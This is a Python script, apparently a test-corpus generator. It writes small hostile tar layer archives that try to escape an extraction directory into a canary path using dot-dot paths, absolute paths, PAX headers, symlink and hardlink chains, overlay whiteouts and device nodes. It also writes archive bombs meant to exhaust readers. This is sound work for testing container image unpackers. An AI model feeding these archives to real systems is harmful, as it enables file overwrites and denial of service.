#!/usr/bin/python3
"""hostile.py DIR CANARY | --bombs DIR

Writes layer archives that try to reach CANARY, a directory outside, or to exhaust what reads them.
Each is small, and named for what it tries."""
import gzip
import io
import os
import sys
import tarfile

FILE, DIR, SYM, HARD = tarfile.REGTYPE, tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE


def entry(name, kind=FILE, link="", data=b"hostile\n", mode=0o755, pax=None, **more):
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, mode
    info.size = len(data) if kind == FILE else 0
    info.pax_headers = pax or {}
    for key, value in more.items():
        setattr(info, key, value)
    return info, data


def write(path, entries, form=tarfile.PAX_FORMAT):
    with tarfile.open(path, "w", format=form) as tar:
        for info, data in entries:
            tar.addfile(info, io.BytesIO(data) if info.size else None)


def attacks(canary):
    up = "../" * 12
    rel = canary.lstrip("/")
    device = {"devmajor": 8, "devminor": 0}
    return {
        "dotdot": [entry(f"{up}{rel}/victim")],
        "dotdot-middle": [entry("a/", DIR), entry(f"a/{up}{rel}/new")],
        "dotdot-end": [entry("a/..", DIR, mode=0o700)],
        "dotdot-tmp": [entry(f"{up}tmp/escaped-1")],
        "absolute": [entry(f"{canary}/victim")],
        "absolute-slashes": [entry(f"//{canary}/victim")],
        "pax-path": [entry("x", pax={"path": f"{up}{rel}/victim"})],
        "pax-path-absolute": [entry("x", pax={"path": f"{canary}/victim"})],
        "pax-linkpath": [entry("x", SYM, "y", pax={"linkpath": canary}), entry("x/victim")],
        "symlink-then-file": [entry("l", SYM, canary), entry("l/victim")],
        "symlink-then-new": [entry("l", SYM, canary), entry("l/new")],
        "symlink-relative": [entry("l", SYM, f"{up}{rel}"), entry("l/victim")],
        "symlink-chain": [entry("a", SYM, "b"), entry("b", SYM, canary), entry("a/victim")],
        "symlink-deep": [entry("d/", DIR), entry("d/l", SYM, canary), entry("d/l/sub/victim")],
        "symlink-then-dir": [entry("l", SYM, canary), entry("l", DIR, mode=0o000)],
        "symlink-then-subdir": [entry("l", SYM, canary), entry("l/sub", DIR, mode=0o000)],
        "symlink-mode": [entry("l", SYM, f"{canary}/victim"), entry("l", SYM, "x", mode=0o777)],
        "symlink-overwrite": [entry("l", SYM, f"{canary}/victim"), entry("l")],
        "symlink-slash": [entry("l", SYM, canary), entry("l/", DIR, mode=0o000)],
        "symlink-dot": [entry("l", SYM, canary), entry("l/.", DIR, mode=0o000)],
        "symlink-to-dotdot": [entry("l", SYM, ".."), entry("l/escaped-2")],
        "symlink-self": [entry("l", SYM, "l"), entry("l/x")],
        "symlink-proc": [entry("l", SYM, "/proc/self/cwd"), entry("l/escaped-3")],
        "hardlink-absolute": [entry("h", HARD, f"{canary}/victim"), entry("h")],
        "hardlink-dotdot": [entry("h", HARD, f"{up}{rel}/victim"), entry("h")],
        "hardlink-symlink": [entry("l", SYM, f"{canary}/victim"), entry("h", HARD, "l"), entry("h")],
        "hardlink-through": [entry("l", SYM, canary), entry("h", HARD, "l/victim"), entry("h")],
        "hardlink-chmod": [entry("h", HARD, f"{canary}/victim", mode=0o4777)],
        "hardlink-missing": [entry("h", HARD, "nothing")],
        "hardlink-dir": [entry("d/", DIR), entry("h", HARD, "d")],
        "hardlink-self": [entry("h", HARD, "h")],
        "whiteout-dotdot": [entry("a/", DIR), entry("a/.wh...")],
        "whiteout-dot": [entry(".wh..")],
        "whiteout-empty": [entry(".wh.")],
        "whiteout-through": [entry("l", SYM, canary), entry("l/.wh.victim", data=b"")],
        "whiteout-slash": [entry("a/.wh.x/../../../..", data=b"")],
        "opaque-through": [entry("l", SYM, canary), entry("l/.wh..wh..opq", data=b"")],
        "whiteout-plnk": [entry(".wh..wh.plnk/", DIR), entry(".wh..wh.plnk/1.2")],
        "overlay-whiteout": [entry("w", tarfile.CHRTYPE, devmajor=0, devminor=0)],
        "overlay-xattr": [entry("d/", DIR, pax={"SCHILY.xattr.trusted.overlay.redirect": canary})],
        "overlay-opaque": [entry("d/", DIR, pax={"SCHILY.xattr.trusted.overlay.opaque": "y"})],
        "block-device": [entry("sda", tarfile.BLKTYPE, mode=0o666, **device)],
        "char-device": [entry("mem", tarfile.CHRTYPE, mode=0o666, devmajor=1, devminor=1)],
        "name-empty": [entry("")],
        "name-newline": [entry("a\nb/c")],
        "name-dots": [entry("./././"), entry("....")],
        "name-long": [entry("n" * 300)],
        "path-long": [entry("/".join(["d" * 100] * 60))],
        "file-then-dir": [entry("a"), entry("a/b")],
        "dir-then-file": [entry("a/", DIR), entry("a/b"), entry("a")],
        "root-is-file": [entry("./")],
        "root-is-link": [entry("./", SYM, canary), entry("victim")],
        "type-unknown": [entry("x", b"Z")],
        "owner-huge": [entry("x", uid=2**40, gid=2**40)],
        "mtime-odd": [entry("x", mtime=-(2**40)), entry("y", mtime=2**60)],
    }


def bombs(directory):
    # A header that promises more than follows.
    info = tarfile.TarInfo("big")
    info.size = 2**62
    with open(f"{directory}/size.tar", "wb") as out:
        out.write(info.tobuf(tarfile.GNU_FORMAT))
        out.write(b"\0" * 65536)
    # Path headers without a bound.
    with gzip.open(f"{directory}/pax.tar.gz", "wb", 1) as out:
        info = tarfile.TarInfo("pax")
        info.type, info.size = tarfile.XHDTYPE, 2**30
        out.write(info.tobuf(tarfile.USTAR_FORMAT))
        for _ in range(1024):
            out.write(b"9" * 2**20)
    # Directories in directories.
    deep = [entry("/".join(["d"] * 30000), DIR)]
    write(f"{directory}/deep.tar", deep)
    # Names without end, as GNU tar writes long ones.
    with gzip.open(f"{directory}/longname.tar.gz", "wb", 1) as out:
        info = tarfile.TarInfo("././@LongLink")
        info.type, info.size = tarfile.GNUTYPE_LONGNAME, 2**28
        out.write(info.tobuf(tarfile.GNU_FORMAT))
        for _ in range(256):
            out.write(b"n" * 2**20)
    # A compressed stream in which nothing is an archive.
    with gzip.open(f"{directory}/zeros.gz", "wb", 1) as out:
        for _ in range(64):
            out.write(b"\1" * 2**20)


def main():
    if sys.argv[1] == "--bombs":
        os.makedirs(sys.argv[2])
        bombs(sys.argv[2])
        return
    directory, canary = sys.argv[1:]
    os.makedirs(directory)
    for name, entries in attacks(canary).items():
        write(f"{directory}/{name}.tar", entries)


main()
